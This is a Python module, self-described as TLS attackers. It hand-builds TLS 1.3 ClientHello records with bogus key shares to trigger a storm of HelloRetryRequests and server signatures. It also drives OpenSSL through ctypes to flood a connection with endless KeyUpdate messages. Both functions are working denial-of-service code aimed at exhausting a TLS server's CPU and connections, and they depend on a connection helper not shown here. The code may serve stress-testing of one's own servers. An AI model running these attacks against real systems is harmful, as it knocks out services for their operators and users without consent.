"""Attackers of TLS that Python's own ssl cannot play: a ClientHello in two steps, and key updates without end."""

import ctypes
import os
import socket
import struct
import time

X25519, P256 = 0x001D, 0x0017
TLS_1_2, TLS_1_3 = 0x0303, 0x0304
LIBSSL = "libssl.so.3"


def extension(kind, body):
    return struct.pack(">HH", kind, len(body)) + body


class ClientHello:
    """A ClientHello of TLS 1.3 without a share of a key, and the second one with it (RFC 8446, 4.1.2 and 4.1.4).

    The share is no key of ours: the relay has signed before it could notice.
    """

    def __init__(self):
        self.random = os.urandom(64)

    def record(self, share):
        entry = struct.pack(">HH", X25519, len(share)) + share if share else b""
        extensions = extension(43, struct.pack(">BH", 2, TLS_1_3))
        extensions += extension(10, struct.pack(">HHH", 4, X25519, P256))
        # ECDSA on P-256 and RSA-PSS, with SHA-256.
        extensions += extension(13, struct.pack(">HHH", 4, 0x0403, 0x0804))
        extensions += extension(51, struct.pack(">H", len(entry)) + entry)
        body = struct.pack(">H", TLS_1_2) + self.random[:32] + b"\x20" + self.random[32:]
        # TLS_AES_128_GCM_SHA256; no compression.
        body += struct.pack(">HHBB", 2, 0x1301, 1, 0) + struct.pack(">H", len(extensions)) + extensions
        message = b"\x01" + len(body).to_bytes(3, "big") + body
        return b"\x16\x03\x01" + struct.pack(">H", len(message)) + message

    def first(self):
        return self.record(b"")

    def second(self):
        return self.record(os.urandom(32))


def retry_storm(links):
    """First ClientHellos, each answered with a HelloRetryRequest; then all second ones in one moment. How many were
    answered at all, and how many with a signature."""
    hellos = {link: ClientHello() for link in links}
    for link, hello in hellos.items():
        link.send(hello.first())
    asked = [link for link in links if link.fill()]
    for link in asked:
        link.input = b""
        link.send(hellos[link].second())
    signed = 0
    for link in asked:
        try:
            # An alert is a record of type 21; a ServerHello and what follows it is longer.
            signed += link.fill() and link.input[0] != 21
        except OSError:
            pass
    return {"asked": len(asked), "signed": signed}


class OpenSSL:
    """A TLS connection of OpenSSL's own library, over a connected socket."""

    def __init__(self, connected):
        self.openssl = ctypes.CDLL(LIBSSL)
        for name in ("TLS_client_method", "SSL_CTX_new", "SSL_new"):
            getattr(self.openssl, name).restype = ctypes.c_void_p
        method = ctypes.c_void_p(self.openssl.TLS_client_method())
        self.context = ctypes.c_void_p(self.openssl.SSL_CTX_new(method))
        self.tls = ctypes.c_void_p(self.openssl.SSL_new(self.context))
        connected.setblocking(True)
        self.socket = connected
        self.openssl.SSL_set_fd(self.tls, connected.fileno())
        if self.openssl.SSL_connect(self.tls) != 1:
            raise OSError("no TLS")

    def send(self, data):
        if self.openssl.SSL_write(self.tls, data, len(data)) <= 0:
            raise OSError("the connection ended")

    def read(self):
        data = ctypes.create_string_buffer(65536)
        count = self.openssl.SSL_read(self.tls, data, len(data))
        if count <= 0:
            raise OSError("the connection ended")
        return data.raw[:count]

    def update_key(self):
        """A KeyUpdate that asks for none in return (RFC 8446, 4.6.3)."""
        if self.openssl.SSL_key_update(self.tls, 0) != 1 or self.openssl.SSL_do_handshake(self.tls) != 1:
            raise OSError("the connection ended")


def key_updates(link, seconds):
    """How many KeyUpdates an open connection took in that time; it ends after them."""
    count, end = 0, time.monotonic() + seconds
    try:
        while time.monotonic() < end:
            link.update_key()
            count += 1
    except OSError:
        pass
    link.socket.close()
    return count
